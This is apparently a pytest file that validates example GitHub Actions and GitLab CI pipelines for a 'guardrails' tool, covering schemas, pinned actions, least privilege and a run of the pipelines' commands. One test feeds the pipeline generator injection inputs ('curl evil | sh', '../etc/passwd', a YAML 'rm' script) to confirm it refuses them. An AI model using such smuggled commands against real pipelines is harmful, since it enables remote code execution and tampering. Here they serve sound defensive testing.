"""The org-wide CI examples: a GitHub Actions matrix and a GitLab parent/child pipeline.

Validated against the public workflow schemas that check-jsonschema vendors
(offline), checked for pinned actions and least privilege, and run where
they run guardrails: the matrix job's `guardrails check` command (read from
the YAML) in three repositories of the example org, then the merge job's
`guardrails merge` command on the reports they wrote.
"""

from __future__ import annotations

import glob
import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from helpers import run_cli
from orgsplit import SPLIT, split_acme

REPO = Path(__file__).resolve().parents[2]
CI = REPO / "examples" / "ci"
GITHUB = CI / "github-actions-org.yml"
GITLAB = CI / "gitlab-ci-org.yml"
GENERATOR = CI / "gitlab_org_pipeline.py"
USES = re.compile(r"^\s*-?\s*uses:\s*(?P<action>[\w.-]+/[\w./-]+)@(?P<ref>\S+)"
                  r"(?:\s+#\s*(?P<version>\S+))?\s*$")


def load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def schema_check(path: Path, schema: str) -> Any:
    from check_jsonschema import main

    return CliRunner().invoke(main, ["--builtin-schema", schema, str(path)])


def generate(tmp_path: Path, *lines: str) -> subprocess.CompletedProcess[str]:
    listing = tmp_path / "repos.txt"
    listing.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return subprocess.run([sys.executable, str(GENERATOR), str(listing)], text=True,
                          capture_output=True, check=False, timeout=60)


@pytest.mark.parametrize(("path", "schema"), [(GITHUB, "vendor.github-workflows"),
                                              (GITLAB, "vendor.gitlab-ci")])
def test_org_examples_follow_the_public_schemas(path: Path, schema: str) -> None:
    res = schema_check(path, schema)
    assert res.exit_code == 0, res.output


def test_the_generated_child_pipeline_follows_the_schema(tmp_path: Path) -> None:
    proc = generate(tmp_path, "# the org", "acme/api", "", "acme/web", "acme/platform/data")
    assert proc.returncode == 0, proc.stderr
    child = tmp_path / "child.yml"
    child.write_text(proc.stdout, encoding="utf-8")
    res = schema_check(child, "vendor.gitlab-ci")
    assert res.exit_code == 0, res.output
    doc = yaml.safe_load(proc.stdout)
    checks = sorted(k for k in doc if k.startswith("check "))
    assert checks == ["check acme/api", "check acme/platform/data", "check acme/web"]
    assert doc["check acme/platform/data"]["artifacts"]["paths"] == [
        "reports/acme-platform-data.json"]
    assert doc["merge"]["when"] == "always" and doc["pages"]["artifacts"]["paths"] == ["public/"]
    assert "guardrails merge reports/*.json" in doc["merge"]["script"][-1]


@pytest.mark.parametrize("line", ['acme/api"; curl evil | sh; "', "acme", "../etc/passwd",
                                  "acme/api\n  script: [rm]"])
def test_the_generator_refuses_what_is_not_a_project_path(tmp_path: Path, line: str) -> None:
    proc = generate(tmp_path, "acme/web", line)
    assert proc.returncode == 4 and proc.stdout == ""
    assert "not a project path" in proc.stderr or "need 1" in proc.stderr


def test_actions_are_pinned_and_reuse_the_gate_example_shas() -> None:
    pins: dict[str, str] = {}
    for line in (CI / "github-actions.yml").read_text(encoding="utf-8").splitlines():
        m = USES.match(line)
        if m:
            pins[m["action"]] = m["ref"]
    text = GITHUB.read_text(encoding="utf-8")
    found = [m for m in map(USES.match, text.splitlines()) if m]
    assert len(found) == text.count("uses: ") == 8
    for m in found:
        assert re.fullmatch(r"[0-9a-f]{40}", m["ref"]), m.group(0)
        assert m["version"] and re.fullmatch(r"v\d+\.\d+\.\d+", m["version"]), m.group(0)
        if m["action"] in pins:
            assert m["ref"] == pins[m["action"]], m.group(0)
    assert {m["action"] for m in found} >= {
        "actions/checkout", "actions/setup-python", "actions/upload-artifact",
        "actions/download-artifact", "actions/upload-pages-artifact", "actions/deploy-pages"}


def test_the_workflow_asks_for_least_privilege() -> None:
    doc = load(GITHUB)
    assert doc["permissions"] == {}
    jobs = doc["jobs"]
    assert jobs["check"]["strategy"]["fail-fast"] is False
    assert jobs["merge"]["permissions"] == {} and jobs["merge"]["if"] == "always()"
    assert jobs["pages"]["permissions"] == {"pages": "write", "id-token": "write"}
    for name, job in jobs.items():
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            # secrets reach only the checkout and the guardrails check of the matrix
            if "secrets." in json.dumps(step):
                assert name == "check" and (
                    "guardrails check" in step.get("run", "")
                    or step.get("uses", "").startswith("actions/checkout@")), step


def _step(job: dict[str, Any], needle: str) -> dict[str, Any]:
    (step,) = [s for s in job["steps"] if needle in s.get("run", "")]
    return step


def _argv(command: str, env: dict[str, str], cwd: Path) -> list[str]:
    """A one-command ``run:`` as the runner's shell would split and expand it."""
    words = shlex.split(" ".join(command.split()))
    out: list[str] = []
    for w in words:
        for name, value in env.items():
            w = w.replace(f"${name}", value)
        assert "$" not in w, w
        matches = sorted(glob.glob(w, root_dir=cwd)) if "*" in w else [w]
        out += matches or [w]
    return out


def test_the_matrix_and_merge_commands_run_on_three_repositories(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from guardrails.manager import create_manager
    from guardrails.reporters.setup import reporter_types

    jobs = load(GITHUB)["jobs"]
    check = _step(jobs["check"], "guardrails check")
    merge = _step(jobs["merge"], "guardrails merge")
    reports = tmp_path / "merge" / "reports"
    reports.mkdir(parents=True)
    for name, services in SPLIT.items():
        repo = split_acme(tmp_path, name, services)
        monkeypatch.chdir(repo)
        env = {"REPORT": f"acme-{name}.json"}
        argv = _argv(check["run"], env, repo)[1:]  # without the program name
        res = run_cli([*argv, "--now", "2026-11-20", "-c", "guardrails.yaml"])
        assert res.exit_code == 1, res.output  # the example org fails rules: still a report
        os.replace(repo / env["REPORT"], reports / env["REPORT"])
    monkeypatch.chdir(tmp_path / "merge")
    argv = _argv(merge["run"], {}, tmp_path / "merge")[1:]
    assert argv[:4] == ["merge", *(f"reports/acme-{n}.json" for n in sorted(SPLIT))]
    if "html" not in reporter_types(create_manager((), ())):
        # The HTML reporter is its own part of issue 13; without it, the rest runs.
        i = argv.index("html")
        del argv[i - 1:i + 3]
    res = run_cli(argv)
    assert res.exit_code == 1, res.output  # an org-wide rule fails: the job shows it
    org = json.loads((tmp_path / "merge" / "site" / "org.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in org["org"]["repositories"]] == [
        f"acme-{n}" for n in sorted(SPLIT)]
    summary = (tmp_path / "merge" / "org.md").read_text(encoding="utf-8")
    assert "## Repositories" in summary and "| acme-web |" in summary
